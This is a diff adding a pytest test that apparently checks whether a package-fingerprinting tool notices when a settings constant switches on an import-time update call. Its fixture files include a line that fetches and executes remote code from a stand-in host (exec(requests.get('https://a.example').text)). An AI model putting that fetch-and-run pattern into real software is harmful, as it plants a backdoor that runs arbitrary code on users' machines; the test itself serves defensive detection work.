@@ -133,6 +133,26 @@ def test_a_function_that_another_module_calls_now_without_asking_is_another(
     assert not old & new
 
 
+@pytest.mark.parametrize("condition", ["settings.AUTO", "AUTO", "not own"])
+def test_a_call_that_waits_for_another_constant_now_is_another(
+    tmp_path: Path, condition: str
+) -> None:
+    def release(value: str) -> dict[str, str]:
+        return {
+            "sample/__init__.py": "from . import settings\nfrom .settings import AUTO\n"
+            f"from .update import update\nown = {value != 'True'}\nif {condition}:\n    update()\n",
+            "sample/settings.py": f"AUTO = {value}\nOTHER = 1\n",
+            "sample/update.py": "import requests\n\ndef update():\n"
+            "    exec(requests.get('https://a.example').text)\n",
+        }
+
+    old = prints(tmp_path / "old", release("False"))
+    other = {**release("False"), "sample/settings.py": "AUTO = False\nOTHER = 2\n"}
+
+    assert prints(tmp_path / "new", release("True")) != old
+    assert prints(tmp_path / "same", other) == old
+
+
 def test_what_is_written_to_a_file_and_run_later_belongs_to_the_flow(tmp_path: Path) -> None:
     code = (
         "import subprocess, urllib.request\n"
